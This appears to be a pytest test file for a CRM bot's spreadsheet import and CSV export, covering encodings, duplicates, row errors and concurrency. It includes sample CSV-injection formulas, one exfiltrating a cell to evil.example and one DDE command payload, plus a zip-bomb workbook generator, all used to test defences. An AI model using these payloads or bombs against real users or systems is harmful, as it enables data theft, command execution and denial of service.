"""Importing the company spreadsheet and exporting the pool, as an admin would see them."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import threading
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select, text
from sqlmodel import col

from bot.config import PoolbotConfig
from bot.domain.catalog import NewCustomer, add_customers
from bot.domain.claims import claim
from bot.domain.clock import FakeClock
from bot.domain.context import Services
from bot.domain.lookup import member_for
from bot.domain.setup import sync_config
from bot.exporter import HEADER, ExportError, export_csv, export_file
from bot.importer import ImportFileError, ImportReport, RowError, import_file
from bot.storage.engine import Database
from bot.storage.migrate import upgrade
from bot.storage.models import Customer, OwnershipEvent
from bot.storage.teams import pool_by_name

POOL = "east-main"


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def customers(db: Database) -> dict[str, Customer]:
    with db.read() as session:
        rows = session.execute(select(Customer).order_by(col(Customer.id))).scalars().all()
    return {row.name: row for row in rows}


def customer_count(db: Database) -> int:
    with db.read() as session:
        return int(session.execute(select(func.count()).select_from(Customer)).scalar() or 0)


def seed(services: Services, pool: str, *people: NewCustomer) -> None:
    with services.db.write() as session:
        found = pool_by_name(session, pool)
        assert found is not None and found.id is not None
        add_customers(session, pool_id=found.id, customers=list(people), now=services.clock.now())


def run(services: Services, path: Path, *, dry_run: bool = False) -> ImportReport:
    return import_file(services.db, services.clock, path, pool_name=POOL, dry_run=dry_run)


# ---- reading files -------------------------------------------------------------------------------


def test_chinese_headers_with_bom_import_every_field(services: Services, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "客户.csv",
        [
            ["客户名称", "联系人", "手机", "邮箱", "行业", "地区", "规模", "优先级", "标签"],
            [
                "杭州云帆科技有限公司",
                "王磊",
                "138 0057 1001",
                "wl@yunfan.cn",
                "软件",
                "华东",
                "51-200",
                "高",
                "展会，老客户",
            ],
            ["上海星辰物流有限公司", "李娜", "13900000002", "", "物流", "华东", "11-50", "", ""],
            ["深圳海纳电子有限公司", "", "", "", "", "", "", "低", ""],
        ],
        encoding="utf-8-sig",
    )

    report = run(services, path)

    assert (report.imported, report.skipped, report.errors, report.dry_run) == (3, (), (), False)
    rows = customers(services.db)
    yunfan = rows["杭州云帆科技有限公司"]
    assert (yunfan.contact, yunfan.phone, yunfan.email) == ("王磊", "138 0057 1001", "wl@yunfan.cn")
    assert (yunfan.industry, yunfan.region, yunfan.size, yunfan.priority) == ("软件", "华东", "51-200", "A")
    assert yunfan.tags == "展会,老客户"
    assert yunfan.owner_id is None and yunfan.stage == "new"
    assert rows["上海星辰物流有限公司"].priority == "B"
    assert rows["深圳海纳电子有限公司"].priority == "C"
    assert rows["深圳海纳电子有限公司"].contact is None
    with services.db.read() as session:
        kinds = session.execute(select(col(OwnershipEvent.kind))).scalars().all()
    assert kinds == ["imported"] * 3


def test_english_headers_ignore_case_spaces_and_unknown_columns(services: Services, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "customers.csv",
        [
            [
                " Name ",
                "CONTACT",
                "Phone",
                "E-Mail",
                "Industry",
                "Region",
                "Size",
                "Priority",
                "Tags",
                "Notes",
            ],
            [
                "Northwind Traders",
                "Nancy",
                "+1 555 0100",
                "nancy@northwind.com",
                "retail",
                "North",
                "1000+",
                "a",
                "wholesale; referral",
                "met in May",
            ],
            ["Contoso Ltd", "Megan", "", "", "", "", "", "c", "", ""],
        ],
    )

    report = run(services, path)

    assert report.imported == 2
    assert report.ignored_columns == ("Notes",)
    rows = customers(services.db)
    assert rows["Northwind Traders"].priority == "A"
    assert rows["Northwind Traders"].email == "nancy@northwind.com"
    assert rows["Northwind Traders"].tags == "wholesale,referral"
    assert rows["Contoso Ltd"].priority == "C"
    assert "Ignored columns: Notes" in report.lines()


def test_xlsx_keeps_numeric_phones_as_digits(services: Services, tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["客户名称", "电话", "优先级", "规模"])
    sheet.append(["南京博雅教育科技有限公司", 13812345678, "B", "51-200"])
    sheet.append([None, None, None, None])
    sheet.append(["Fabrikam Inc", "021-5555 0101", "X", None])
    sheet.append(["Tailspin Toys", None, "a", None])
    path = tmp_path / "customers.xlsx"
    workbook.save(path)

    report = run(services, path)

    assert report.imported == 2
    assert report.errors == (RowError(4, "priority 'X' is not A, B or C (or 高/中/低)"),)
    rows = customers(services.db)
    assert rows["南京博雅教育科技有限公司"].phone == "13812345678"
    assert rows["Tailspin Toys"].priority == "A"


def test_gb18030_csv_from_chinese_excel(services: Services, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "gbk.csv",
        [
            ["客户名", "联系人", "电话"],
            ["成都瑞丰机械有限公司", "陈静", "13700000001"],
        ],
        encoding="gb18030",
    )

    report = run(services, path)

    assert report.imported == 1
    assert customers(services.db)["成都瑞丰机械有限公司"].contact == "陈静"


# ---- duplicates ----------------------------------------------------------------------------------


def test_duplicates_within_the_file_name_ignoring_suffix_and_phone_ignoring_86(
    services: Services, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "dups.csv",
        [
            ["name", "phone"],
            ["云帆科技", "13800138000"],
            ["云帆科技有限公司", ""],
            ["杭州星辰物流", "+86 138-0013-8000"],
            ["Northwind Traders", ""],
            ["NORTHWIND TRADERS, INC.", ""],
        ],
    )

    report = run(services, path)

    assert report.imported == 2
    assert [(s.line, s.name, s.reason) for s in report.skipped] == [
        (3, "云帆科技有限公司", "same name as line 2"),
        (4, "杭州星辰物流", "same phone as line 2"),
        (6, "NORTHWIND TRADERS, INC.", "same name as line 5"),
    ]
    assert set(customers(services.db)) == {"云帆科技", "Northwind Traders"}


def test_duplicates_against_the_team_in_any_of_its_pools_in_the_words_of_new(
    services: Services, config: PoolbotConfig, tmp_path: Path
) -> None:
    west = {
        "teams": [{"name": "west", "timezone": "Asia/Shanghai"}],
        "pools": [{"name": "west-main", "team": "west"}],
    }
    sync_config(services.db, PoolbotConfig.model_validate(west))
    seed(services, "east-vip", NewCustomer("云帆科技有限公司", phone="0571-8888 0000"))
    seed(services, "east-main", NewCustomer("Contoso Ltd", phone="13912345678", email="ann@contoso.com"))
    seed(services, "west-main", NewCustomer("Fabrikam Inc", phone="13800000000"))
    path = write_csv(
        tmp_path / "again.csv",
        [
            ["客户名称", "电话", "邮箱"],
            ["云帆科技（杭州）", "", ""],
            ["上海全新贸易有限公司", "+86 139 1234 5678", ""],
            ["contoso", "", ""],
            ["Northwind", "", "ANN@contoso.com"],
            ["Fabrikam", "13800000000", ""],  # west's customer: another team's book, imported
        ],
    )

    report = run(services, path)

    assert report.imported == 1
    reasons = {s.line: s.reason for s in report.skipped}
    assert set(reasons) == {2, 3, 4, 5}
    assert reasons[2] == "already in the team: same name as #1 云帆科技有限公司 (pool east-vip)"
    assert reasons[3] == "probably the same: same phone as #2 Contoso Ltd (pool east-main)"
    assert reasons[4] == "already in the team: same name as #2 Contoso Ltd (pool east-main)"
    assert reasons[5] == "probably the same: same e-mail as #2 Contoso Ltd (pool east-main)"
    assert customer_count(services.db) == 4


def test_credit_codes_decide_before_names_and_are_validated(services: Services, tmp_path: Path) -> None:
    seed(services, "east-main", NewCustomer("云帆科技有限公司", credit_code="91330100MA27XXXX0F"))
    path = write_csv(
        tmp_path / "credit.csv",
        [
            ["客户名称", "统一社会信用代码"],
            ["杭州另一家公司", "91330100MA27XXXX0F"],  # same code, another name: the same company
            ["云帆科技有限公司", "91110000600037341L"],  # same name, its own valid code: two companies
            ["坏代码公司", "91110000600037341X"],  # the check character is wrong
        ],
    )

    report = run(services, path)

    assert [s.reason for s in report.skipped] == [
        "already in the team: same credit code as #1 云帆科技有限公司 (pool east-main)"
    ]
    assert [e.line for e in report.errors] == [4]
    assert "not a unified social credit code" in report.errors[0].message
    assert report.imported == 1


def test_importing_the_same_file_twice_adds_nothing_the_second_time(
    services: Services, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "c.csv", [["name"], ["Acme"], ["Globex"], ["Initech"]])
    assert run(services, path).imported == 3

    again = run(services, path)

    assert again.imported == 0
    assert [s.line for s in again.skipped] == [2, 3, 4]
    assert customer_count(services.db) == 3


# ---- row errors, dry run, progress ------------------------------------------------------------------


def test_row_errors_carry_the_physical_line_number(services: Services, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "errors.csv",
        [
            ["name", "email", "priority", "notes"],
            ["Good One", "", "", "a note\nover two lines"],  # lines 2-3
            ["", "", "", ""],  # line 4: blank, ignored
            ["   ", "x@y.com", "", ""],  # line 5
            ["Bad Priority", "", "D", ""],  # line 6
            ["N" * 201, "", "", ""],  # line 7
            ["Bad Email", "not-an-email", "", ""],  # line 8
            ["Good Two", "two@example.com", "中", ""],  # line 9
            ["张" * 150, "", "", ""],  # line 10: fits the name column, not the pinyin search key
        ],
    )

    report = run(services, path)

    assert report.imported == 2
    assert [e.line for e in report.errors] == [5, 6, 7, 8, 10]
    messages = [e.message for e in report.errors]
    assert "name is empty" in messages[0]
    assert "'D'" in messages[1]
    assert "201 characters" in messages[2] and "200" in messages[2]
    assert "not-an-email" in messages[3]
    assert "too long for pinyin search" in messages[4]
    assert any(line.startswith("line 6: error:") for line in report.lines())
    assert set(customers(services.db)) == {"Good One", "Good Two"}


def test_dry_run_reports_the_same_and_writes_nothing(services: Services, tmp_path: Path) -> None:
    seed(services, POOL, NewCustomer("Existing Trading Ltd"))
    path = write_csv(
        tmp_path / "c.csv",
        [
            ["name", "priority"],
            ["Existing Trading", ""],
            ["New One", "A"],
            ["New One Inc", ""],
            ["", ""],
            ["Broken", "Z"],
        ],
    )

    dry = run(services, path, dry_run=True)

    assert customer_count(services.db) == 1
    assert dry.dry_run and dry.imported == 1
    assert dry.lines()[0] == (
        "Dry run, nothing was written. 1 customer would be imported into pool east-main; "
        "2 duplicates skipped; 1 row with errors."
    )
    real = run(services, path)
    assert (real.imported, real.skipped, real.errors) == (dry.imported, dry.skipped, dry.errors)
    assert customer_count(services.db) == 2


def test_progress_is_reported_per_batch(services: Services, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "c.csv", [["name"], *([f"Company {i}"] for i in range(5))])
    calls: list[tuple[int, int | None]] = []

    report = import_file(
        services.db,
        services.clock,
        path,
        pool_name=POOL,
        batch_size=2,
        progress=lambda done, total: calls.append((done, total)),
    )

    assert report.imported == 5
    assert calls == [(2, 5), (4, 5), (5, 5)]
    with services.db.read() as session:
        events = session.execute(select(func.count()).select_from(OwnershipEvent)).scalar()
    assert events == 5


# ---- refusals --------------------------------------------------------------------------------------


def test_unknown_pool_is_refused_and_names_the_pools(services: Services, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "c.csv", [["name"], ["Acme"]])

    with pytest.raises(ImportFileError) as raised:
        import_file(services.db, services.clock, path, pool_name="nowhere")

    assert "nowhere" in str(raised.value) and "east-main" in str(raised.value)
    assert customer_count(services.db) == 0


def test_missing_name_header_names_the_expected_headers(services: Services, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "c.csv", [["公司", "电话"], ["Acme", "1"]])

    with pytest.raises(ImportFileError) as raised:
        run(services, path)

    message = str(raised.value)
    assert "name" in message and "客户名称" in message and "Found: 公司, 电话" in message
    assert customer_count(services.db) == 0


@pytest.mark.parametrize(
    "filename, content",
    [
        ("c.txt", b"name\nAcme\n"),
        ("c.csv", b""),
        ("c.xlsx", b"not a zip file"),
    ],
)
def test_unusable_files_are_refused_with_a_message(
    services: Services, tmp_path: Path, filename: str, content: bytes
) -> None:
    path = tmp_path / filename
    path.write_bytes(content)

    with pytest.raises(ImportFileError, match=filename):
        run(services, path)


# ---- export ----------------------------------------------------------------------------------------


def exported(services: Services, pool_name: str | None = None) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    count = export_csv(services.db, out, pool_name=pool_name)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == count
    return rows


def test_export_shows_owner_and_recycle_deadline(services: Services, clock: FakeClock) -> None:
    seed(services, POOL, NewCustomer("Acme", phone="13800000001", priority="B"), NewCustomer("Globex"))
    seed(services, "east-vip", NewCustomer("Initech", priority="A"))
    alice = member_for(services, platform="console", user_id="alice")
    acme_id = customers(services.db)["Acme"].id
    assert acme_id is not None
    claim(services, member=alice, customer_id=acme_id)  # Monday 2026-11-23, 10:00 in Shanghai

    rows = exported(services)

    assert list(rows[0]) == list(HEADER)
    by_name = {row["name"]: row for row in rows}
    acme = by_name["Acme"]
    assert (acme["owner"], acme["pool"], acme["phone"], acme["priority"]) == (
        "alice",
        "east-main",
        "13800000001",
        "B",
    )
    assert acme["owned_since"] == "2026-11-23T10:00:00+08:00" == acme["last_touch"]
    assert (acme["recycle_deadline"], acme["recycle_rule"]) == ("2026-12-08", "recycle_days")
    globex = by_name["Globex"]
    assert globex["owner"] == globex["recycle_deadline"] == globex["owned_since"] == ""
    assert by_name["Initech"]["pool"] == "east-vip"
    assert [row["name"] for row in exported(services, "east-vip")] == ["Initech"]


def test_export_of_unknown_pool_is_refused(services: Services) -> None:
    with pytest.raises(ExportError, match="nowhere"):
        export_csv(services.db, io.StringIO(), pool_name="nowhere")


def test_an_export_imports_back_as_all_duplicates(services: Services, tmp_path: Path) -> None:
    seed(services, POOL, NewCustomer("Acme", phone="13800000001"), NewCustomer("杭州云帆科技有限公司"))
    path = tmp_path / "export.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        export_csv(services.db, handle)

    report = import_file(services.db, services.clock, path, pool_name="east-vip")

    assert report.imported == 0 and len(report.skipped) == 2 and report.errors == ()
    assert "owner" in report.ignored_columns


ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "@SUM(A1:A9)",
    "-2+3",
    "+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_export_defuses_formulas_in_every_column_the_phone_included(services: Services) -> None:
    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote, in
    every column, and every cell is quoted (a ; or , inside cannot start a new cell)."""
    seed(
        services,
        POOL,
        *(
            NewCustomer(
                f"{attack} {i}", contact=attack, phone=attack[:40], email=attack, region=attack, tags=attack
            )
            for i, attack in enumerate(ATTACKS)
        ),
        NewCustomer("Plain", phone="+86 138 0000 0000", region="a;=1+1"),
    )
    out = io.StringIO(newline="")
    export_csv(services.db, out, pool_name=POOL)
    text = out.getvalue()
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    for row in rows:
        for cell in row:
            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), (cell, row)
    plain = next(r for r in rows if r[1] == "Plain")
    assert plain[3] == "'+86 138 0000 0000" and plain[6] == "a;=1+1"
    assert text.startswith('"id","name",') and '"a;=1+1"' in text  # every cell quoted


def test_an_export_with_defused_phones_imports_back_as_typed(
    services: Services, config: PoolbotConfig, tmp_path: Path
) -> None:
    seed(services, "east-vip", NewCustomer("Acme", phone="+86 138 0000 0001", region="-north-"))
    path = tmp_path / "export.csv"
    export_file(services.db, path)
    fresh_url = f"sqlite:///{tmp_path / 'fresh.db'}"
    upgrade(fresh_url)
    fresh = Database.from_url(fresh_url)
    sync_config(fresh, config)

    report = import_file(fresh, services.clock, path, pool_name=POOL)

    assert (report.imported, report.errors) == (1, ())
    acme = customers(fresh)["Acme"]
    assert (acme.phone, acme.region) == ("+86 138 0000 0001", "-north-")
    fresh.dispose()


@pytest.mark.parametrize(
    "phone",
    [
        "13800138000",
        "+86 138-0013-8000",
        "(021) 5555 0101",
        "+1 555 0100 x123",
        "0571-8888 0000转123",
        "+44 20 7946 0958 ext. 12",
        "１３８００１３８０００",
    ],
)
def test_import_accepts_phone_numbers_with_extensions(services: Services, tmp_path: Path, phone: str) -> None:
    path = write_csv(tmp_path / "c.csv", [["name", "phone"], ["Acme", phone]])
    report = run(services, path)
    assert (report.imported, report.errors) == (1, ())


@pytest.mark.parametrize(
    "phone", ['=HYPERLINK("http://x")', "@SUM(A1)", "call me", "138/139", "-", "x123", "1+1"]
)
def test_import_refuses_a_phone_that_is_not_a_phone(services: Services, tmp_path: Path, phone: str) -> None:
    path = write_csv(tmp_path / "c.csv", [["name", "phone"], ["Acme", phone], ["Globex", "13800138000"]])
    report = run(services, path)
    assert report.imported == 1
    assert [e.line for e in report.errors] == [2]
    assert "is not a phone number" in report.errors[0].message
    assert set(customers(services.db)) == {"Globex"}


def test_import_refuses_nul_and_control_characters_per_row(services: Services, tmp_path: Path) -> None:
    """PostgreSQL refuses NUL in text: the row is an error, the other rows are imported (both DBs)."""
    path = tmp_path / "nul.csv"
    path.write_bytes(
        b"name,contact,notes\nGood One,Ann,\nBad\x00Name,Bob,\nAlso Bad,Ca\x07rl,\n"
        b"Good Two,Dan,ignored \x00 column\n"
    )

    report = run(services, path)

    assert report.imported == 2
    assert [(e.line, e.message.split(";")[0]) for e in report.errors] == [
        (3, "name contains a NUL byte"),
        (4, "contact contains the control character U+0007"),
    ]
    assert set(customers(services.db)) == {"Good One", "Good Two"}
    assert run(services, path, dry_run=True).errors == report.errors


def test_priority_words_typed_with_a_chinese_input_method_are_understood(
    services: Services, tmp_path: Path
) -> None:
    """Full-width letters (Ａ, ｃ) are what a Chinese input method types; they mean A and C, as the
    same words do in chat (/customer … 优先级:Ａ)."""
    path = write_csv(
        tmp_path / "fullwidth.csv",
        [
            ["客户名称", "优先级"],
            ["全宽甲公司", "Ａ"],
            ["全宽丙公司", "ｃ"],
            ["高优先公司", "高"],
            ["空白公司", ""],
        ],
    )
    report = run(services, path)
    assert (report.imported, report.errors) == (4, ())
    rows = customers(services.db)
    priorities = {name: row.priority for name, row in rows.items()}
    assert priorities == {"全宽甲公司": "A", "全宽丙公司": "C", "高优先公司": "A", "空白公司": "B"}


# ---- hostile workbooks -----------------------------------------------------------------------------


SST = (
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1">'
    "<si><t>{}</t></si></sst>"
)


def zip_bomb(path: Path, part: str, megabytes: int = 200) -> Path:
    """A real workbook whose one cell (inline in the sheet, or a shared string: openpyxl writes
    none, so the bomb comes as the sharedStrings part) is ``megabytes`` of "A", about 1,000 times
    smaller compressed, as a zip bomb is."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["name"])
    sheet.append(["PLACEHOLDER"])
    plain = path.with_name("plain.xlsx")
    workbook.save(plain)
    with (
        zipfile.ZipFile(plain) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for info in source.infolist():
            if info.filename != part:
                bomb.writestr(info, source.read(info.filename))
        if part == "xl/sharedStrings.xml":
            before, after = SST.split("{}")
        else:
            text = source.read(part).decode("utf-8")
            start = text.index('<c r="A2"')
            end = text.index("</c>", start) + len("</c>")
            before = text[:start] + '<c r="A2" t="inlineStr"><is><t>'
            after = "</t></is></c>" + text[end:]
        chunk = b"A" * (1 << 20)
        with bomb.open(part, "w", force_zip64=True) as out:
            out.write(before.encode())
            for _ in range(megabytes):
                out.write(chunk)
            out.write(after.encode())
    return path


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"])
def test_a_zip_bomb_workbook_is_refused_in_bounded_memory(tmp_path: Path, part: str) -> None:
    """~205 KB expanding to 200 MB of one cell: refused from the archive's sizes, before openpyxl
    inflates anything; the process that reads it stays small."""
    path = zip_bomb(tmp_path / "bomb.xlsx", part)
    assert path.stat().st_size < 400_000
    probe = (
        "import sys\n"
        "from pathlib import Path\n"
        "from bot.spreadsheet import SpreadsheetError, read_table\n"
        "try:\n"
        "    read_table(Path(sys.argv[1]))\n"
        "except SpreadsheetError as exc:\n"
        "    print(exc)\n"
        # VmHWM: this process's own peak (ru_maxrss would include the forking pytest worker's)
        "print(next(l for l in open('/proc/self/status') if l.startswith('VmHWM')).split()[1])\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe, str(path)], capture_output=True, text=True, check=True, timeout=120
    )
    message, peak_kb = done.stdout.strip().splitlines()
    assert "zip bomb" in message and "bomb.xlsx" in message, message
    assert int(peak_kb) < 120_000, f"peak RSS {int(peak_kb) // 1024} MB"


def test_a_workbook_with_a_cell_longer_than_excel_allows_is_a_row_error(
    services: Services, tmp_path: Path
) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["name", "contact"])
    sheet.append(["Acme", "x" * 40_000])
    sheet.append(["Globex", "Ann"])
    path = tmp_path / "long.xlsx"
    workbook.save(path)

    report = run(services, path)

    assert report.imported == 1 and [e.line for e in report.errors] == [2]
    assert "characters long" in report.errors[0].message


def test_a_csv_line_longer_than_a_megabyte_is_refused(services: Services, tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_text("name\n" + "A" * (2 << 20) + "\n", encoding="utf-8")
    with pytest.raises(ImportFileError, match="longer than"):
        run(services, path)
    assert customer_count(services.db) == 0


def test_progress_counts_records_of_a_workbook_too(services: Services, tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in (["name"], ["Acme"], ["Globex"], ["Initech"]):
        sheet.append(row)
    path = tmp_path / "c.xlsx"
    workbook.save(path)
    calls: list[tuple[int, int | None]] = []

    report = import_file(
        services.db, services.clock, path, pool_name=POOL, batch_size=2, progress=lambda *a: calls.append(a)
    )

    assert report.imported == 3 and calls == [(2, 3), (3, 3)]


def test_a_report_lists_the_first_rows_and_counts_them_all(
    services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A re-imported million-row file must not keep a million skipped rows: the first MAX_DETAILS
    are listed, every one is counted."""
    import bot.importer

    monkeypatch.setattr(bot.importer, "MAX_DETAILS", 2)
    path = write_csv(tmp_path / "c.csv", [["name"], *([f"Company {i}"] for i in range(5))])
    assert run(services, path).imported == 5

    again = run(services, path)

    assert (again.imported, len(again.skipped), again.skipped_total) == (0, 2, 5)
    assert again.lines()[0].endswith("5 duplicates skipped; 0 rows with errors.")
    assert again.lines()[-1] == "... and 3 more"


def test_two_imports_of_one_file_at_once_add_each_customer_once(services: Services, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "c.csv", [["name", "phone"], *([f"Company {i}", f"1380000{i:04d}"] for i in range(60))]
    )
    start = threading.Barrier(2)
    reports: list[ImportReport] = []

    def one_import() -> None:
        start.wait()
        reports.append(import_file(services.db, services.clock, path, pool_name=POOL, batch_size=7))

    threads = [threading.Thread(target=one_import) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert customer_count(services.db) == 60
    assert sum(r.imported for r in reports) == 60
    assert sum(len(r.skipped) for r in reports) == 60


def test_a_big_import_leaves_the_planner_statistics_of_the_table_it_filled(
    services: Services, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PostgreSQL plans the key lookups of later batches (and the first searches after the import)
    for the table as the import left it, not as the empty table it was: without statistics it
    read a whole pool per lookup, and a million-row import slowed to a crawl."""
    if services.db.engine.dialect.name != "postgresql":
        pytest.skip("the statistics are PostgreSQL's; SQLite gets PRAGMA optimize")
    monkeypatch.setattr("bot.importer.STATISTICS_EVERY", 100)
    monkeypatch.setattr("bot.importer.STATISTICS_AT_END", 50)
    rows = [[f"Company {i}", f"1390000{i:04d}"] for i in range(300)]
    path = write_csv(tmp_path / "big.csv", [["name", "phone"], *rows])

    assert import_file(services.db, services.clock, path, pool_name=POOL, batch_size=50).imported == 300

    with services.db.read() as session:
        estimate = session.execute(text("SELECT reltuples FROM pg_class WHERE relname = 'customer'")).scalar()
    assert estimate == 300
